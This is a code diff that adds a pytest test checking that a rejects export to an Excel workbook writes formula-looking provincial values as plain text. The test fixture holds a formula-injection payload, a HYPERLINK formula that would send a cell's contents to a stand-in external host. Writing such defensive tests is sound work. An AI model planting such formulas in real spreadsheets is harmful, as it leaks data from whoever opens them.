@@ -289,3 +289,19 @@ def test_a_correction_is_redacted_like_intake_and_finds_its_pseudonymised_key(
     stored = json.dumps(row.record, ensure_ascii=False)
     assert raw["data"]["ID_CARD"] not in stored and raw["data"]["PHONE_NUMBER"] not in stored
     assert row.key == held.key and "ID_CARD" in row.redacted and "PHONE_NUMBER" in row.redacted
+
+
+@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # the workbook, not the store, is tested
+def test_rejects_export_writes_a_formula_in_a_record_as_text(db_url: str, tmp_path: Path) -> None:
+    """``node rejects export``: a provincial value such as ``=HYPERLINK(…)`` must not run when an
+    official opens the workbook (before, it was written as a formula)."""
+    ctx = node_context(tmp_path, db_url)
+    raw = next(r for r in province_records(transactions=1) if r["table"] == "SECTION")
+    attack = '=HYPERLINK("http://x.example/?"&A1,"详情")'
+    finding = make_finding("E-FIELD-LENGTH", "BID_SECTION_NAME", attack).to_dict()
+    enqueue(ctx, [raw], held=True, findings=[finding])
+    target = tmp_path / "out" / "拒收.xlsx"
+    assert export_rejects_xlsx(ctx.engine, RejectFilter(), target) == 1
+    cells = [cell for row in load_workbook(target).active.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert "'" + attack in [c.value for c in cells]
